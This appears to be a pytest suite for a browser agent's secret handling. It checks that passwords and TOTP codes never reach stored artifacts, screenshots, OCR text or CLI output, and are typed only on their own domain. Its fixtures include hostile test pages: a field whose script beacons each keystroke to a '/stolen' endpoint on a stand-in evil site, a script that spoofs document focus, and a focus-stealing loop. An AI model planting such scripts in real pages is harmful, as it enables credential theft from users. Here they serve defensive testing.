"""Secrets reach the keyboard and nothing else: searched for byte by byte in everything that a run leaves behind."""

import base64
import html
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterable, Iterator
from os import environ
from pathlib import Path
from urllib.parse import quote, quote_plus

import numpy as np
import pytest
from PIL import Image
from playwright.async_api import Browser
from pydantic import SecretStr

from deixis.agent.api import Agent, Run
from deixis.agent.planner import InstructionPlanner
from deixis.agent.state import Episode, Outcome
from deixis.browser.actions import Click, Type
from deixis.browser.errors import ActionError, Blocked, UsageError
from deixis.browser.secrets import Secret, Secrets, mark, totp
from deixis.browser.session import Session, SessionConfig
from deixis.browser.types import Point, Screenshot
from tests.fakes import FixedPointer
from tests.hostile import EVIL, GOOD, Site

pytestmark = pytest.mark.asyncio(loop_scope="session")
VALUE, OTHER = 'Hunter2!<&"ß', 'MMMMMMM!<&"ß'
PAGE = """<!doctype html><meta charset=utf-8><title>Sign in</title><body style="margin:0;font:16px monospace"><style>*{position:absolute;margin:0;box-sizing:border-box}
body,html,style,script,head,form{position:static}input,button,p{width:300px;height:40px}</style>
<form action="/done"><input name=pw type=password style="left:0;top:0"><input name=key style="left:0;top:60px">
<button style="left:0;top:120px">Go</button></form>
<button style="left:320px;top:0" onclick="document.querySelector('[name=pw]').type='text'">Show</button>
<button style="left:320px;top:60px" onclick="out.textContent='your key: '+document.querySelector('[name=key]').value;document.title=out.textContent;history.replaceState(0,'','?k='+encodeURIComponent(document.querySelector('[name=key]').value))">Echo</button>
<button style="left:320px;top:120px" onclick="alert(document.querySelector('[name=key]').value)">Tell</button>
<p id=out style="left:0;top:200px;width:700px">nothing</p></body>"""
POINTER = FixedPointer({
    "Password": Point(x=100, y=20), "Key": Point(x=100, y=80), "Go": Point(x=100, y=140), "Show": Point(x=400, y=20),
    "Echo": Point(x=400, y=80), "Tell": Point(x=400, y=140), "the result": Point(x=60, y=210),
})  # fmt: skip
TASK = "type {PW} into Password, click Show, type {PW} into Key, click Echo, read the result, click Tell, accept the dialog, click Go"


@pytest.fixture(scope="module")
def good() -> Iterator[Site]:
    site = Site()
    site.pages["/"] = (200, {}, PAGE)
    yield site
    site.end()


@pytest.fixture(scope="module")
def evil() -> Iterator[Site]:
    site = Site()
    yield site
    site.end()


def secret(value: str = VALUE, domain: str | None = None) -> Secret:
    return Secret(name="PW", value=SecretStr(value), domain=domain)


async def run(site: Site, folder: Path, value: str) -> Episode:
    config = SessionConfig(width=800, height=300, secrets=(secret(value),))
    planner = InstructionPlanner.from_text(TASK, {"PW": "<secret:PW>"})
    return await Agent(POINTER, config, Run(out=folder)).run(planner, site.at(GOOD))


def everything(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file of a run, and what is packed in it."""
    for path in folder.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            yield path.name, data
            for n, packed in enumerate(re.findall(rb"base64,([A-Za-z0-9+/=]+)", data)):
                yield f"{path.name}#{n}", base64.b64decode(packed)


def spellings(value: str) -> set[str]:
    """How the value may be written."""
    raw = value.encode()
    return {
        value, quote(value, safe=""), quote(value, safe="!'()*"), quote_plus(value), quote(value).lower(), html.escape(value), html.escape(value, quote=False),
        value.replace('"', '\\"'), base64.b64encode(raw).decode().rstrip("="), raw.hex(), "".join(f"&#{ord(c)};" for c in value),
    }  # fmt: skip


def leaks(data: bytes, value: str) -> list[str]:
    forms = {form for one in spellings(value) for form in (one, json.dumps(one)[1:-1], one.lower(), one.upper())}
    return [form for form in forms if form.encode() in data or form.encode("utf-16-le") in data]


async def test_nothing_that_a_run_writes_has_the_secret(
    good: Site, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    good.seen.clear()
    episode = await run(good, tmp_path / "a", VALUE)
    assert episode.outcome is Outcome.FINISHED, episode.reason
    assert any("pw=Hunter2" in line for line in good.seen), "it was not typed"
    found = [(name, leaks(data, VALUE)) for name, data in everything(tmp_path / "a")]
    assert len(found) > 10 and [one for one in found if one[1]] == []
    assert not leaks(episode.model_dump_json().encode(), VALUE) and not leaks(
        "".join(capfd.readouterr()).encode(), VALUE
    )
    assert any(step.reading and step.reading.text == "your key: <secret:PW>" for step in episode.steps)
    assert "k=<secret:PW>" in [step.url for step in episode.steps][-2]


async def test_no_picture_tells_one_secret_from_another(good: Site, tmp_path: Path) -> None:
    """Two runs with values of one width and quite other letters store the same pixels."""
    episodes = [await run(good, tmp_path / name, value) for name, value in (("a", VALUE), ("b", OTHER))]
    pictures = [[tmp_path / n / (s.screenshot or "") for s in e.steps] for n, e in zip("ab", episodes, strict=True)]
    assert len(pictures[0]) == len(pictures[1]) >= 8
    for one, two in zip(*pictures, strict=True):
        first, second = (np.asarray(Image.open(io.BytesIO(path.read_bytes())).convert("RGB")) for path in (one, two))
        assert (first == second).all(), one.name


async def test_without_secrets_the_pictures_differ(good: Site, browser: Browser) -> None:
    """So the test above can fail."""
    shots = []
    for value in (VALUE, OTHER):
        async with Session(SessionConfig(width=800, height=300), browser) as session:
            await session.start(good.at(GOOD))
            await session.act(Type(text=value, target=Point(x=100, y=80)))
            shots.append((await session.look()).png)
    assert shots[0] != shots[1]


async def test_a_filled_password_field_is_painted_over_without_any_secret(good: Site, browser: Browser) -> None:
    async with Session(SessionConfig(width=800, height=300), browser) as session:
        await session.start(good.at(GOOD))
        empty = (await session.look()).png
        shots = []
        for text in ("1234567890", "x"):
            await session.act(Type(text=text, target=Point(x=100, y=20)))
            await session.act(Click(target=Point(x=700, y=280)))
            await session.act(Click(target=Point(x=400, y=20)))  # shows the password: it stays painted over
            shots.append((await session.look()).png)
        assert shots[0] == shots[1] != empty


FRAMES = """<body style="margin:0"><iframe src="{url}" style="position:absolute;left:0;top:0;width:400px;height:200px;border:0"></iframe>
<input id=own style="position:absolute;left:0;top:250px">{more}"""
FIELD = "<body style='margin:0'><input id=f style='width:300px;height:100px' oninput=\"navigator.sendBeacon('/stolen',f.value)\">{more}"
LIE = "<script>Object.defineProperty(Document.prototype,'activeElement',{get(){return document.querySelector('iframe')}});Document.prototype.hasFocus=()=>true;Function.prototype.call=function(){return this}</script>"
THIEF = "<script>setInterval(()=>f.focus(),1);addEventListener('blur',()=>f.focus())</script>"


@pytest.mark.parametrize(
    "name",
    ["a frame of a partner", "a page that lies about the focus", "a frame that steals the focus", "the partner's page"],
)
async def test_a_secret_is_typed_only_where_it_belongs(name: str, good: Site, evil: Site, browser: Browser) -> None:
    evil.seen.clear()
    evil.pages = {
        "/field": (200, {}, FIELD.format(more=THIEF if "steals" in name else "")),
        "/lie": (200, {}, FRAMES.format(url=good.at(GOOD), more=LIE)),
    }
    good.pages["/frames"] = (200, {}, FRAMES.format(url=evil.at(EVIL, "/field"), more=""))
    where = {"the partner's page": evil.at(EVIL, "/field"), "a page that lies about the focus": evil.at(EVIL, "/lie")}
    async with Session(
        SessionConfig(width=800, height=600, secrets=(secret(domain=GOOD),), allow=(EVIL, GOOD)), browser
    ) as session:
        await session.start(where.get(name, good.at(GOOD, "/frames")))
        target = Point(x=50, y=260) if "lies" in name or "steals" in name else Point(x=50, y=50)
        said = ""
        try:
            await session.act(Type(text="<secret:PW>", target=target))
        except (Blocked, ActionError) as error:
            said = str(error)
        assert said or "steals" in name  # which Chromium does not let a frame of another host do
        assert VALUE not in said
        for page in session.tabs:
            for frame in page.frames:
                values = await frame.evaluate("[...document.querySelectorAll('input')].map(i => i.value).join()")
                assert VALUE not in values or GOOD in frame.url
        assert not any("Hunter2" in line for line in evil.seen)


async def test_it_is_typed_into_a_frame_of_its_own_domain(good: Site, evil: Site, browser: Browser) -> None:
    evil.pages = {"/": (200, {}, FRAMES.format(url=good.at(GOOD), more=""))}
    async with Session(SessionConfig(secrets=(secret(domain=GOOD),), allow=(EVIL, GOOD)), browser) as session:
        await session.start(evil.at(EVIL))
        await session.act(Type(text="<secret:PW>", target=Point(x=100, y=20)))
        assert await session.page.frames[1].input_value("[name=pw]") == VALUE


async def test_errors_do_not_tell(good: Site, browser: Browser) -> None:
    async with Session(SessionConfig(width=800, height=300, secrets=(secret(),)), browser) as session:
        await session.start(good.at(GOOD))
        await session.act(Type(text="<secret:PW>", target=Point(x=100, y=80)))
        await session.act(Click(target=Point(x=400, y=140)))
        shot = await session.look()
        assert shot.dialog is not None and shot.dialog.message == "<secret:PW>"
        with pytest.raises(ActionError, match="<secret:PW>"):
            await session.act(Click(target=Point(x=1, y=1)))
        with pytest.raises(ActionError, match="no secret 'OTHER'"):
            session.secrets.parts("<secret:OTHER>")
        assert VALUE not in repr(session.config) + session.config.model_dump_json() + repr(session.secrets)


@pytest.mark.slow
async def test_the_command_line_says_nothing_of_it(good: Site, tmp_path: Path) -> None:
    command = [
        sys.executable,
        "-m",
        "deixis.agent.cli",
        "run",
        "type {PW} into the field with the key, read '{PW}'",
        "--secret",
        "PW=DEIXIS_TEST",
        "--url",
    ]
    for url in (good.at(GOOD), "http://127.0.0.1:9/"):
        out = tmp_path / str(url.count("good"))
        done = subprocess.run(
            [*command, url, "--out", str(out), "--json"],
            capture_output=True,
            env=environ | {"DEIXIS_TEST": VALUE},
            timeout=100,
        )
        assert not leaks(done.stdout + done.stderr, VALUE) and b"Traceback" not in done.stderr
        assert all(not leaks(data, VALUE) for _, data in everything(out))


@pytest.mark.parametrize(
    ("text", "wrong"),
    [("PW", "NAME=ENV"), ("PW=", "NAME=ENV"), ("PW=NONE", "no environment variable"), ("PW=SHORT", "shorter"), ("PW=LONG@", "NAME=ENV"),
     ("PW=BAD", "otpauth"), ("PW=LONG@a b", "no domain")],
)  # fmt: skip
async def test_wrong_secrets_are_told_without_their_value(text: str, wrong: str) -> None:
    values = {"SHORT": "abc", "LONG": "long enough", "BAD": "otpauth://totp/x?issuer=y"}
    with pytest.raises(UsageError, match=wrong) as told:
        Secret.read(text, values)
    assert not any(value in str(told.value) for value in values.values())
    assert Secret.read("PW=LONG@https://a.com/", values).domain == "a.com"


@pytest.mark.parametrize(
    ("seconds", "code", "algorithm"),
    [(59, "94287082", "SHA1"), (1111111109, "07081804", "SHA1"), (20000000000, "65353130", "SHA1"),
     (59, "46119246", "SHA256"), (1111111111, "99943326", "SHA512")],
)  # fmt: skip
async def test_codes_are_those_of_rfc_6238(seconds: int, code: str, algorithm: str) -> None:
    key = base64.b32encode((b"1234567890" * 7)[: {"SHA1": 20, "SHA256": 32, "SHA512": 64}[algorithm]]).decode()
    address = f"otpauth://totp/x?secret={key}&digits=8&algorithm={algorithm}"
    assert totp(address, seconds) == code
    secrets = Secrets([Secret(name="CODE", value=SecretStr(address))], clock=lambda: seconds)
    (part,) = secrets.parts("<secret:CODE>")
    assert isinstance(part, Secret) and secrets.reveal(part) == code
    assert secrets.mask(f"{code} {key}") == "<secret:CODE> <secret:CODE>"


async def test_every_spelling_is_hidden() -> None:
    secrets = Secrets([secret()])
    for form in spellings(VALUE):
        assert secrets.mask(f"a {form} b") == "a <secret:PW> b"
    assert secrets.masked({"a": [VALUE, {"b": VALUE}], "n": 1}) == {"a": ["<secret:PW>", {"b": "<secret:PW>"}], "n": 1}
    assert mark("Ab") == [2, 97 * 31 + 98] and secrets.marks == []


# read from the pictures, as a person would

SPOKEN = "Zebra-Quartz-4711"
"""A value that OCR reads without doubt, in Latin letters and digits."""


def pictures(folder: Path) -> Iterator[bytes]:
    """Every picture that a run has stored, once, also those packed in its report."""
    yield from {
        data for _, data in everything(folder) if data[:8] == b"\x89PNG\r\n\x1a\n" or data[:3] == b"\xff\xd8\xff"
    }


def told_by(texts: Iterable[str], value: str) -> list[str]:
    """Texts that hold the value or five characters of it in a row, whatever OCR makes of case, spaces and likenesses."""
    alike = str.maketrans("0o1l|i5s8b2z", "ooiiiissbbzz")

    def plain(text: str) -> str:
        return re.sub(r"\W|_", "", text.lower().translate(alike))

    pieces = {plain(value)[n : n + 5] for n in range(len(plain(value)) - 4)}
    return [text for text in texts if any(piece in plain(text) for piece in pieces)]


def read_by_ocr(pictures: Iterable[bytes]) -> list[str]:
    pytest.importorskip("rapidocr")
    from deixis.benchmarks.baselines import OcrPointer

    reader, texts = OcrPointer(threads=1), []
    for png in pictures:
        width, height = Image.open(io.BytesIO(png)).size
        texts += [line.text for line in reader.lines(Screenshot(png=png, width=width, height=height))]
    return texts


@pytest.mark.slow
@pytest.mark.timeout(300)
async def test_nothing_in_the_stored_pictures_can_be_read_as_the_secret(good: Site, tmp_path: Path) -> None:
    """Shown by the page in a field, in a text, in the title; the same run without secrets shows it, so this can fail."""
    pytest.importorskip("rapidocr")
    assert told_by(["your key: zebra-quartz 47ll"], SPOKEN) and not told_by(
        ["your key: ......", "Show", "Echo"], SPOKEN
    )
    config = SessionConfig(width=800, height=300)
    hidden = config.model_copy(update={"secrets": (secret(SPOKEN),)})
    for name, with_secret, typed in (("hidden", hidden, "<secret:PW>"), ("shown", config, SPOKEN)):
        planner = InstructionPlanner.from_text(TASK, {"PW": typed})
        await Agent(POINTER, with_secret, Run(out=tmp_path / name)).run(planner, good.at(GOOD))
    seen = {name: read_by_ocr(pictures(tmp_path / name)) for name in ("hidden", "shown")}
    assert any("your key" in text for text in seen["hidden"]), "nothing was read"
    assert told_by(seen["hidden"], SPOKEN) == []
    assert told_by(seen["shown"], SPOKEN)
